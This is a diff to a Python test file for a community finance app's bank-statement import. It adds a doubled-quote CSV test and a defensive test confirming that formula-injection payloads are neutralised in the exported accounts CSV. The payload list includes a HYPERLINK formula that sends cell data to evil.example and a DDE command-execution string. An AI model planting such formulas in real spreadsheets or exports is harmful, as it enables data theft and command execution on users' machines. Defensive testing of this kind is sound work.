@@ -4,6 +4,9 @@ error, never another unit's unpublished books, and nothing already stored is los
 
 from __future__ import annotations
 
+import csv
+import datetime as dt
+import io
 from pathlib import Path
 from typing import Any
 
@@ -172,7 +175,63 @@ def test_a_csv_statement_in_any_common_encoding_reads_the_same(data: bytes) -> N
     assert read("csv", data).lines == read("csv", CSV).lines != []
 
 
+def test_a_doubled_quote_in_a_csv_statement_reads_as_one_quote_mark_in_its_own_column() -> None:
+    data = (
+        b"Date,Description,Payee,Paid in,Paid out\n"
+        b'02/01/2026,"Hall ""Main"" deposit, returnable",Town hall,,50.00\n'
+    )
+    parsed = read("csv", data)
+    assert parsed.problems == []
+    line = parsed.lines[0]
+    assert (line.description, line.payee) == ('Hall "Main" deposit, returnable', "Town hall")
+    assert line.amount == -50
+
+
 def test_a_latin_1_description_in_a_csv_statement_is_read_not_refused() -> None:
     data = "Date,Description,Payee,Paid in,Paid out\n02/01/2026,Café fund,Zoë,10.00,\n"
     line = read("csv", data.encode("latin-1")).lines[0]
     assert (line.description, line.payee) == ("Café fund", "Zoë")
+
+
+# the accounts' CSV download, opened in a spreadsheet
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(1,1)",
+]
+
+
+def test_a_bank_line_written_as_a_formula_reaches_the_accounts_csv_as_words_not_a_formula(
+    books: Any,
+) -> None:
+    from grassroots.finance.actions import accounts, bank
+    from grassroots.finance.models import BankLine
+
+    t = books.org.users["treasurer"]
+    mapping = bank.save_mapping(books.org.hillford, bank="Co-op", by=t, columns=COLUMNS)
+    out = io.StringIO()
+    w = csv.writer(out)
+    w.writerow(["Date", "Description", "Payee", "Paid in", "Paid out"])
+    for i, f in enumerate(FORMULAS):
+        w.writerow([f"0{i + 1}/02/2025", f, f, f"1{i}.00", ""])
+    data = out.getvalue().encode()
+    st, report = bank.check_statement(
+        books.bank, format="csv", filename="f.csv", data=data, mapping=mapping, by=t
+    )
+    assert not report.problems
+    bank.confirm_statement(st, sha256=st.sha256, by=t)
+    for line in BankLine.objects.all():
+        bank.reconcile_line(line, account=books.donations, by=t)
+    acc = accounts.prepare_accounts(
+        books.org.hillford, start=dt.date(2025, 1, 1), end=dt.date(2025, 12, 31), by=t
+    )
+    r = login("treasurer").get(hill(f"accounts/{acc.pk}/accounts.csv"))
+    assert r.status_code == 200
+    cells = [c for row in csv.reader(io.StringIO(r.content.decode())) for c in row]
+    for f in FORMULAS:
+        assert f not in cells  # as it came, a spreadsheet would run it
+        assert cells.count("'" + f) == 2  # the description and the payee, shown as written
+    assert "60.00" in cells and "'60.00" not in cells  # the amounts stay numbers
